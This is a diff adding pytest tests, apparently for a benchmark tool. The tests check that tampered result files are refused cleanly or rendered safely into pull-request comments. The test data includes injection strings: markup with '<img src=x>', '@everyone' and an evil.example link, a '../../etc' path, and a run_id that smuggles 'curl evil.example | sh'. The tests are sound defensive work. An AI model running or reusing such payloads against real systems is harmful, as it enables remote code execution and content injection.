@@ -1,0 +1,126 @@
+"""A result that somebody else wrote is refused with a sentence, or judged and said: never a traceback."""
+
+import copy
+import json
+import re
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from bench.cli.judging import judged_together
+from bench.errors import BenchError, Exit
+from bench.render.comment import LIMIT, Origin, render_comment
+from bench.store import baselines, results
+from tests.command import Bench
+from tests.factories import make_baseline, make_recording, run_at
+from tests.render.reports import reports
+
+Place = tuple[str | int, ...]
+REPORTS = reports()
+ORIGIN = Origin("pr", "a" * 40, "https://github.com/owner/name/actions/runs/1")
+MARKUP = "<img src=x> @everyone [x](http://evil.example) | a | ``` `x` $$y$$ \u202e\u200b\n# h"
+NUMBERS = [0, -1, 1e308, -1e308, 5e-324, 2**63, 10**30, 10**400]
+TEXTS = [MARKUP, "x" * 10_000, "", "../../etc"]
+
+
+def places(value: Any, place: Place = ()) -> Iterator[tuple[Place, Any]]:
+    """Every text, number and nothing in a result; of things that are alike only the first."""
+    if isinstance(value, dict):
+        for key in list(value)[:3] if place[1:2] == ("metrics",) else value:
+            yield from places(value[key], (*place, key))
+    elif isinstance(value, list):
+        for number, each in enumerate(value[:1]):
+            yield from places(each, (*place, number))
+    else:
+        yield place, value
+
+
+def instead(value: Any) -> list[Any]:
+    """What may stand in a value's place."""
+    match value:
+        case bool():
+            return [not value]
+        case int() | float():
+            return NUMBERS
+        case str():
+            return TEXTS
+        case _:
+            return [0, 1e308, MARKUP]
+
+
+def changed(content: Any, place: Place, value: Any) -> Any:
+    """The same with another value in a place."""
+    found = whole = copy.deepcopy(content)
+    for step in place[:-1]:
+        found = found[step]
+    found[place[-1]] = value
+    return whole
+
+
+@pytest.mark.parametrize("simulated", [True, False])
+@pytest.mark.parametrize("kind", ["certified", "hostile", "interrupted", "overhead"])
+def test_no_value_in_a_result_is_a_bug(bench: Bench, tmp_path: Path, kind: str, simulated: bool) -> None:
+    """Whatever stands in one place of a result, it is refused or neutralised."""
+    del bench  # only for its folder
+    baselines.save(make_baseline())
+    content = json.loads(REPORTS[kind].result.model_dump_json())
+    content["fingerprint"]["simulated"] = simulated
+    file, taken = tmp_path / "result.json", 0
+    for place, value in places(content):
+        for other in instead(value):
+            file.write_text(json.dumps(changed(content, place, other)))
+            try:
+                text = render_comment(judged_together([results.load_foreign(file)]), ORIGIN)
+            except BenchError:
+                continue
+            taken += 1
+            assert len(text) <= LIMIT, place
+            assert text.startswith("<!-- bench:pr -->\n## "), place
+            assert len(max(text.splitlines(), key=len)) < 5000, place
+            assert not re.search(r"@everyone|\u202e|\$\$|(?<!\\)(<img|\]\(http://evil)", text), place
+    assert taken > 50
+
+
+@pytest.mark.parametrize(
+    ("place", "value", "said"),
+    [
+        (("summary", "requests"), 0, "more requests succeeded than there were"),
+        (("summary", "failed_blocks"), 77, "summary.failed_blocks"),
+        (("summary", "metrics", "e2e_ms", "figures", "greeting"), -99, "e2e_ms of 'greeting' is -99"),
+        (("summary", "metrics", "colour"), {"count": 1, "mean": 1}, "there is no metric 'colour'"),
+        (("thresholds", 0, "metric"), "colour", "there is no metric 'colour'"),
+        (("validity",), {"valid": False, "reasons": []}, "invalid for a reason"),
+        (("provenance", "run_id"), "x; curl evil.example | sh", "provenance.run_id"),
+        (("fingerprint", "system"), "x" * 300, "fingerprint.system"),
+    ],
+)
+def test_an_absurd_result_is_refused_with_its_place(
+    bench: Bench, place: Place, value: Any, said: str
+) -> None:
+    """The right schema with values that no run has: the message says which, and nothing is judged."""
+    run = results.save(run_at(1.0, 50), make_recording(), Path("results"))
+    content = json.loads((run / "result.json").read_text())
+    (run / "result.json").write_text(json.dumps(changed(content, place, value)))
+    done = bench("comment", str(run), "--dry-run")
+    assert (done.code, done.out) == (Exit.MEASUREMENT, "")
+    assert said in done.err
+
+
+def test_a_run_without_answers_is_not_valid(bench: Bench) -> None:
+    """What says that it is valid has requests to be judged by."""
+    run = results.save(run_at(1.0, 50), make_recording(), Path("results"))
+    content = json.loads((run / "result.json").read_text())
+    content["summary"] |= {"requests": 0, "outcomes": {}}
+    (run / "result.json").write_text(json.dumps(content))
+    assert "it is valid, and no request was answered" in bench("comment", str(run), "--dry-run").err
+
+
+def test_a_result_that_is_nested_too_deeply_is_refused(bench: Bench) -> None:
+    """A million brackets are no result, and no traceback."""
+    run = results.save(run_at(1.0, 50), make_recording(), Path("results"))
+    (run / "result.json").write_text("[" * 1_000_000)
+    done = bench("comment", str(run), "--dry-run")
+    assert done.code == Exit.MEASUREMENT
+    assert "nested too deeply" in done.err
